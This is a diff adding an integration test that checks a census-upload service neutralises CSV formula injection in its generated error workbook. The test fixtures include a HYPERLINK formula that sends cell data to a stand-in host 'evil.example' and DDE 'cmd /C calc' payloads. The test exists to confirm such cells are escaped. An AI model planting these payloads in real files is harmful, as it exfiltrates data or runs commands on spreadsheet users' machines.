@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import ExcelJS from 'exceljs';
 import { zipSync } from 'fflate';
 import { censusStream } from '@onboard/events';
 import { freshDatabase } from '@onboard/testing/db';
@@ -124,5 +125,67 @@ describe('census over HTTP', () => {
     });
     expect(workbook.status).toBe(200);
     expect(new Uint8Array(await workbook.arrayBuffer()).subarray(0, 2)).toEqual(new Uint8Array([0x50, 0x4b]));
+  });
+
+  it('writes the error workbook with no cell a spreadsheet program would run as a formula', async () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '\t=1+1',
+    ];
+    const quote = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
+    const rows = hostile.map((cell, i) =>
+      [
+        `F${i}`,
+        quote(cell),
+        'Lovelace',
+        '987-65-4321',
+        '12/10/1985',
+        '03/15/2020',
+        'Salaried',
+        '40',
+        quote(cell),
+        'NY',
+        '10001',
+        '85000',
+      ].join(','),
+    );
+    const csv = new TextEncoder().encode(`${HEADER}\n${rows.join('\n')}\n`);
+    const uploaded = await upload(benAdmin, csv, 'hostile.csv');
+    expect(uploaded.status).toBe(201);
+    const document = uploaded.body.document as { documentId: string; mapping: Record<string, number> };
+    expect(
+      (
+        await benAdmin.put(`${census()}/validate-submit`, {
+          documentId: document.documentId,
+          mapping: document.mapping,
+          source: 'BEN_ADMIN_PLATFORM',
+        })
+      ).status,
+    ).toBe(200);
+    await eventually(async () => {
+      const list = (await benAdmin.get(`${census()}/validate`)).body as {
+        document: { documentId: string; status: string; errorWorkbookDocumentId: string | null };
+      }[];
+      const mine = list.find((entry) => entry.document.documentId === document.documentId)!;
+      expect(mine.document.status).toBe('VALIDATED');
+      expect(mine.document.errorWorkbookDocumentId).not.toBeNull();
+    });
+    const response = await fetch(`${app.url}${census()}/files/${document.documentId}/error-workbook`, {
+      headers: { cookie: [...benAdmin.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
+    });
+    expect(response.status).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await response.arrayBuffer());
+    const sheet = workbook.worksheets[0]!;
+    const written: unknown[] = [];
+    sheet.eachRow((row) => row.eachCell((cell) => void written.push(cell.value)));
+    // Every cell is plain text or a number, never a formula; each hostile cell comes with a leading quote.
+    for (const value of written) expect(typeof value === 'string' || typeof value === 'number').toBe(true);
+    const texts = written.map(String);
+    for (const text of texts) expect(text).not.toMatch(/^[=+\-@\t\r]/);
+    for (const cell of hostile) expect(texts.filter((text) => text === `'${cell}`)).toHaveLength(2);
   });
 });
